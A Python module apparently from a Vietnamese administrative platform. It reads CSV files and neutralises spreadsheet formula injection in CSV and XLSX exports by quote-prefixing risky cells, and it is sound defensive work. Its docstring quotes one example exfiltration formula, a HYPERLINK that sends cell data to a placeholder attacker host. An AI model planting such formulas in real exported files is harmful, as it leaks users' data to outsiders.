"""CSV reading, and the one place where cells written for spreadsheets are made inert.

Formula injection (OWASP "CSV Injection", ASVS 1.2.10): a spreadsheet that opens a CSV file
treats a cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return as a
formula, so a comment such as ``=HYPERLINK("http://evil.example/?leak="&A2,"…")`` typed by a
commune would run on the province officer's machine. Every CSV the platform writes goes
through :class:`SafeCsvWriter`, which prefixes such a cell with a single quote, the mark
spreadsheets read as "this is text" (Excel and LibreOffice hide it). Numbers stay numbers:
``-12.5`` or ``+3`` is written unchanged. The full-width forms (＝ ＋ － ＠), which some
East-Asian input methods produce and Excel also reads as formula marks, are treated alike.

The prefix is reversible (:func:`cell_restore`), so that our own import and the files built
from a CSV (open data JSON/XLSX) get back the text as it was entered: a cell that already
begins with quotes followed by a formula mark gets one more quote, so text that truly begins
``'=`` is not confused with an escaped ``=``.

XLSX cells are typed, so a text cell is never evaluated; but openpyxl turns a string that
begins with ``=`` into a formula cell (and ``#N/A`` into an error cell). :func:`xlsx_guard`,
:func:`xlsx_guard_workbook` and :func:`xlsx_row` keep such strings text and set the cell's
"quote prefix" (what Excel itself stores when someone types ``'=…``), so that editing the
cell later in Excel does not turn it into a formula either.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import Any

from dantoc.core.errors import ImportRejected, RowError
from dantoc.core.text import nfc

FORMULA_MARKS = frozenset("=+-@\t\r\x00\uff1d\uff0b\uff0d\uff20")
# First characters that make a cell worth a closer look (the marks and the quote itself).
_SUSPECT_FIRST = FORMULA_MARKS | {"'"}
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def _escaped(text: str) -> str:
    """``text`` (a non-empty string whose first character is suspect) as written."""
    first = text[0]
    if first == "'":
        rest = text.lstrip("'")
        return "'" + text if rest and rest[0] in FORMULA_MARKS else text
    if first in "+-" and _NUMBER.fullmatch(text):
        return text  # a signed number, which a spreadsheet reads as that number
    return "'" + text


def cell_neutralise(value: Any) -> Any:
    """A cell as it may be written to a CSV file: text that a spreadsheet would run as a
    formula gets a leading single quote; numbers (``-5``, ``Decimal("-5")``) and everything
    else are returned unchanged."""
    if type(value) is str and value[:1] in _SUSPECT_FIRST:
        return _escaped(value)
    return value


def cell_restore(text: str) -> str:
    """The inverse of :func:`cell_neutralise` for a cell read back from one of our files."""
    if text[:1] == "'":
        rest = text.lstrip("'")
        if rest and rest[0] in FORMULA_MARKS:
            return text[1:]
    return text


def row_restore(row: list[str]) -> list[str]:
    return [cell_restore(c) if c[:1] == "'" else c for c in row]


class SafeCsvWriter:
    """``csv.writer`` whose rows are neutralised cell by cell (see the module's docstring)."""

    def __init__(self, file, **fmtparams):
        self._writer = csv.writer(file, **fmtparams)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow(_safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        self._writer.writerows(map(_safe_row, rows))


# One C-level search over a row of text finds whether any cell begins with a suspect
# character; only those rows (few: negative numbers, quoted text) are looked at cell by cell.
# The unit separator cannot be in our cells' text (control characters are refused on input);
# if one ever were, the row is only looked at cell by cell for nothing.
_SUSPECT_START = re.compile("\x1f[" + re.escape("".join(sorted(_SUSPECT_FIRST))) + "]")


def _safe_row(row: Iterable[Any]) -> list[Any]:
    if not isinstance(row, list):
        row = list(row)
    try:
        joined = "\x1f" + "\x1f".join(row)
    except TypeError:  # numbers or None among the cells
        pass
    else:
        if _SUSPECT_START.search(joined) is None:
            return row
    suspect = _SUSPECT_FIRST
    return [_escaped(c) if type(c) is str and c[:1] in suspect else c for c in row]


def csv_writer(file, **fmtparams) -> SafeCsvWriter:
    """The writer every CSV output of the platform uses."""
    return SafeCsvWriter(file, **fmtparams)


# --- XLSX ------------------------------------------------------------------------------------

# Formula marks, and "#" for the strings openpyxl would store as error values ("#N/A").
_XLSX_SUSPECT_FIRST = FORMULA_MARKS | {"#"}


def xlsx_guard(cell):
    """Keep a string cell a string: no formula, no error value; quote-prefixed when it
    begins with a formula mark. Other cells (numbers, dates, rich text) are left alone."""
    value = cell.value
    if type(value) is str and (cell.data_type != "s" or value[:1] in FORMULA_MARKS):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def xlsx_guard_workbook(book) -> None:
    """Guard every cell of a workbook built in memory (call it just before saving)."""
    for sheet in book.worksheets:
        for cell in sheet._cells.values():
            value = cell.value
            if type(value) is str and (cell.data_type != "s" or value[:1] in FORMULA_MARKS):
                xlsx_guard(cell)


def xlsx_row(sheet, values: Iterable[Any]) -> list[Any]:
    """A row for ``sheet.append`` (also in write-only mode) with dangerous strings turned
    into guarded cells."""
    from openpyxl.cell import WriteOnlyCell

    suspect = _XLSX_SUSPECT_FIRST
    return [
        xlsx_guard(WriteOnlyCell(sheet, value=v)) if type(v) is str and v[:1] in suspect else v
        for v in values
    ]


# --- reading ---------------------------------------------------------------------------------


def read_csv(path: Path, *, required: list[str]) -> Iterator[tuple[int, dict[str, str]]]:
    """Yield (line number, row) with NFC-normalised values; refuse a file missing columns."""
    with open(path, newline="", encoding="utf-8-sig") as handle:
        reader = csv.DictReader(handle)
        missing = [c for c in required if c not in (reader.fieldnames or [])]
        if missing:
            raise ImportRejected(
                [RowError(row=1, column=c, message="thiếu cột bắt buộc") for c in missing]
            )
        for line, row in enumerate(reader, start=2):
            yield line, {k: nfc(v or "") for k, v in row.items() if k is not None}
